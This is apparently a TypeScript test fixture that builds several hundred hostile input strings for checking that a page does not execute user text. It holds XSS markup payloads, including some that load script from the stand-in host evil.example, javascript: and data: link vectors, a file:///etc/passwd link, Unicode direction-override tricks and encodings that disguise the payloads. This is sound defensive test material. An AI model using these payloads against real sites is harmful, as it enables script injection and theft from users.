/** What people type who want a page to run it: names and messages for security test row 27. */

/** Set by a script that runs though it never should. */
export const HACKED = 'hacked';

const RUN = `window.${HACKED}=1`;

/** Markup that runs something, or asks somebody else, where text is taken for HTML. */
const MARKUP: readonly string[] = [
  `<script>${RUN}</script>`,
  `<script src="//evil.example/x.js"></script>`,
  `<script type="module">import "//evil.example"</script>`,
  `<img src=x onerror="${RUN}">`,
  `<img src=x onerror=${RUN}//`,
  `<svg onload="${RUN}"></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg onload=${RUN}>#x">`,
  `<math><mtext><table><mglyph><style><img src onerror=${RUN}>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>">`,
  `<object data="javascript:${RUN}">`,
  `<embed src="//evil.example">`,
  `<a href="javascript:${RUN}">x</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">x</a>`,
  `<form action="//evil.example"><input name=q autofocus onfocus="${RUN}"></form>`,
  `<button formaction="javascript:${RUN}">x</button>`,
  `<details open ontoggle="${RUN}">`,
  `<video><source onerror="${RUN}"></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<body onload="${RUN}">`,
  `<style>@import "//evil.example/x.css"</style>`,
  `<link rel="stylesheet" href="//evil.example/x.css">`,
  `<base href="//evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=//evil.example">`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<xmp><p title="</xmp><img src=x onerror=${RUN}>">`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<![CDATA[<img src=x onerror=${RUN}>]]>`,
  `</bdi></article><script>${RUN}</script>`,
  `"><img src=x onerror="${RUN}">`,
  `'><img src=x onerror='${RUN}'>`,
  `" onmouseover="${RUN}" x="`,
  `' onfocus='${RUN}' autofocus x='`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;img src=x onerror=${RUN}&#62;`,
];

/** What makes a link of itself, or of which a careless page makes one. */
const LINKS: readonly string[] = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `javascript://example.org/%0a${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `vbscript:msgbox(1)`,
  `file:///etc/passwd`,
  `blob:https://example.org/1`,
  `https://example.org/"onmouseover="${RUN}`,
  `https://example.org/'><img src=x onerror=${RUN}>`,
  `https://javascript:${RUN}@example.org/`,
  `http://example.org/#javascript:${RUN}`,
  `mailto:a@example.org?body=<script>${RUN}</script>`,
  `[x](javascript:${RUN})`,
];

/** Characters that steer what is seen, or end what they should not. */
const STEERING: readonly string[] = [
  '\u202Etxt.exe',
  '\u2066hidden\u2069',
  '\u200F\u200Eabc',
  '\u0000\u0007\u001B[2J',
  '\u2028\u2029',
  '\u{E0041}\u{E0042}',
  '\uFEFFabc',
  'a\u0300'.repeat(40),
];

/** Ways to hide a text from whoever looks for it. */
const DISGUISES: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.toUpperCase().replaceAll(RUN.toUpperCase(), RUN),
  (text) => `\u202E${text}`,
  (text) => text.replaceAll('<', '<\u0000'),
  (text) => `https://example.org/${text}`,
  (text) => `x ${text} y\n${text}`,
  (text) => `{{${text}}} \${${text}} $t(app.back) {{- name}}`,
  (text) => text.replaceAll('<', '\uFF1C').replaceAll('>', '\uFF1E'),
  (text) => `<<${text}>>`,
  (text) => encodeURIComponent(text),
];

/** Each once, 500 or more. */
export const HOSTILE_TEXTS: readonly string[] = [
  ...new Set(
    [...MARKUP, ...LINKS, ...STEERING].flatMap((text) =>
      DISGUISES.map((disguise) => disguise(text)),
    ),
  ),
];
